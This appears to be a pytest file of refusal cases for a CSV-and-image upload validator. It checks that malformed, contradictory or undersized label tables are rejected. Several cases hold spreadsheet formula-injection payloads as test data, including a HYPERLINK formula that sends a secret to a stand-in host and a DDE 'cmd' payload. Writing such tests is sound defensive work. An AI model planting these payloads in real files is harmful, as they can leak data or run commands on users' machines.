"""CSVs with formulas, gaps, unknown labels, contradictions; too few persons."""

import pytest

from tests.workers.intake import uploads
from tests.workers.intake.refusals import (
    FIRST,
    Cases,
    assert_refused,
    with_cell,
    with_file,
    without_table,
)
from tests.workers.intake.uploads import SECRET

CASES = Cases()
case = CASES.register


@case("not exactly one CSV", file="the upload")
def no_table(folder):
    made = uploads.png_upload()
    made.table_name = ""
    return made.write(folder / "upload.zip")


@case("not exactly one CSV", file="the upload")
def two_tables(folder):
    return with_file("other.csv", b"file,patient_id,grade\n")(folder)


@case("the CSV has no rows", file="labels.csv")
def table_without_rows(folder):
    made = uploads.png_upload()
    made.rows = []
    return made.write(folder / "upload.zip")


@case("the column 'file' is missing", file="labels.csv")
def empty_table(folder):
    return with_file("labels.csv", b"", upload=without_table())(folder)


@case("the column 'grade' is missing", file="labels.csv")
def missing_label_column(folder):
    made = uploads.png_upload()
    made.header[2] = "kl"
    return made.write(folder / "upload.zip")


@case("the column 'patient_id' is missing", file="labels.csv")
def missing_person_column(folder):
    made = uploads.png_upload()
    made.header[1] = "person"
    return made.write(folder / "upload.zip")


@case("Separate the columns with commas", file="labels.csv")
def semicolons(folder):
    made = uploads.png_upload()
    made.delimiter = ";"
    return made.write(folder / "upload.zip")


@case("two columns have one name", file="labels.csv")
def repeated_column(folder):
    made = uploads.png_upload()
    made.header.append("grade")
    for row in made.rows:
        row.append("1")
    return made.write(folder / "upload.zip")


@case("not UTF-8", file="labels.csv")
def other_encoding(folder):
    made = uploads.png_upload()
    made.encoding = "utf-16"
    return made.write(folder / "upload.zip")


@case("NUL characters", file="labels.csv")
def nul_in_the_table(folder):
    return with_cell(folder, 1, "a\0b")


@case("another number of cells than the header", file="labels.csv")
def ragged_row(folder):
    made = uploads.png_upload()
    made.rows[3].append("extra")
    return made.write(folder / "upload.zip")


@case("cannot be parsed", file="labels.csv")
def open_quote(folder):
    return with_file(
        "labels.csv", b'file,patient_id,grade\n"images/000.png,1,1\n', upload=without_table()
    )(folder)


@case("a cell that is too long", file="labels.csv")
def endless_cell(folder):
    return with_cell(folder, 1, "p" * 1000)


@case("spreadsheet formula in 'patient_id'", file="labels.csv")
def formula_as_person(folder):
    return with_cell(folder, 1, f'=HYPERLINK("http://x/{SECRET}")')


@case("spreadsheet formula in 'grade'", file="labels.csv")
def formula_as_label(folder):
    return with_cell(folder, 2, "+1+1")


@case("spreadsheet formula in 'file'", file="labels.csv")
def formula_as_file(folder):
    return with_cell(folder, 0, "@SUM(A1)")


@case("spreadsheet formula in column 4", file="labels.csv")
def formula_in_an_ignored_column(folder):
    made = uploads.png_upload()
    made.header.append("note")
    for row in made.rows:
        row.append("=cmd|' /C calc'!A0")
    return made.write(folder / "upload.zip")


@case("no value in column 'grade'", file="labels.csv")
def nan_label(folder):
    return with_cell(folder, 2, "NaN")


@case("no value in column 'grade'", file="labels.csv")
def empty_label(folder):
    return with_cell(folder, 2, "")


@case("no value in column 'patient_id'", file="labels.csv")
def nan_person(folder):
    return with_cell(folder, 1, "nan")


@case("no value in column 'patient_id'", file="labels.csv")
def empty_person(folder):
    return with_cell(folder, 1, "  ")


@case("a label that was not declared: 7", file=FIRST)
def unknown_label(folder):
    return with_cell(folder, 2, "7")


@case("a label that was not declared: 1.5", file=FIRST)
def fractional_label(folder):
    return with_cell(folder, 2, "1.5")


@case("a label that was not declared: 1e999", file=FIRST)
def infinite_label(folder):
    return with_cell(folder, 2, "1e999")


@case("the file has two labels", file=FIRST)
def one_file_with_two_labels(folder):
    made = uploads.png_upload()
    made.rows.append([FIRST, uploads.patient(0), "2"])
    return made.write(folder / "upload.zip")


@case("the file has two labels", file=FIRST)
def one_file_with_two_labels_by_another_spelling(folder):
    made = uploads.png_upload()
    made.rows.append([f"./images//{FIRST[7:]}", uploads.patient(0), "2"])
    return made.write(folder / "upload.zip")


@case("the file has two persons", file=FIRST)
def one_file_of_two_persons(folder):
    made = uploads.png_upload()
    made.rows.append([FIRST, uploads.patient(1), "0"])
    return made.write(folder / "upload.zip")


@case("the file is listed twice", file=FIRST)
def one_file_listed_twice(folder):
    made = uploads.png_upload()
    made.rows.append(list(made.rows[0]))
    return made.write(folder / "upload.zip")


@case("names a file that is not in the zip", file="images/gone.png")
def row_without_a_file(folder):
    made = uploads.png_upload()
    made.rows.append(["images/gone.png", uploads.patient(0), "1"])
    return made.write(folder / "upload.zip")


@case("no row of labels.csv names it", file="images/extra.png")
def file_without_a_row(folder):
    return with_file("images/extra.png")(folder)


@case("its person is in two splits", file="images/extra.png")
def person_in_two_splits(folder):
    made = uploads.png_upload()
    made.header.append("split")
    for row in made.rows:
        row.append("train")
    made.rows.append(["images/extra.png", uploads.patient(3), "1", "test"])
    made.files["images/extra.png"] = uploads.encode(uploads.picture(500))
    return made.write(folder / "upload.zip")


@case("too few persons: 49 persons", file="the upload")
def fewer_persons_than_the_minimum(folder):
    return uploads.png_upload(49).write(folder / "upload.zip")


@case("too few persons: 10 persons", file="the upload")
def many_images_of_few_persons(folder):
    made = uploads.png_upload(60)
    for number, row in enumerate(made.rows):
        row[1] = uploads.patient(number % 10)
    return made.write(folder / "upload.zip")


@case("too few images", file="the upload", schema={"unit": "record"})
def fewer_records_than_the_minimum(folder):
    return uploads.png_upload(20).write(folder / "upload.zip")


@case("too few persons", file="the upload", schema={"declared_count": 1000})
def far_fewer_persons_than_declared(folder):
    return uploads.png_upload(60).write(folder / "upload.zip")


@case("too many persons", file="the upload")
def far_more_persons_than_declared(folder):
    return uploads.png_upload(101).write(folder / "upload.zip")


@pytest.mark.parametrize("hostile", CASES, ids=str)
def test_it_is_refused_and_nothing_is_stored(tmp_path, hostile):
    assert_refused(hostile, tmp_path)
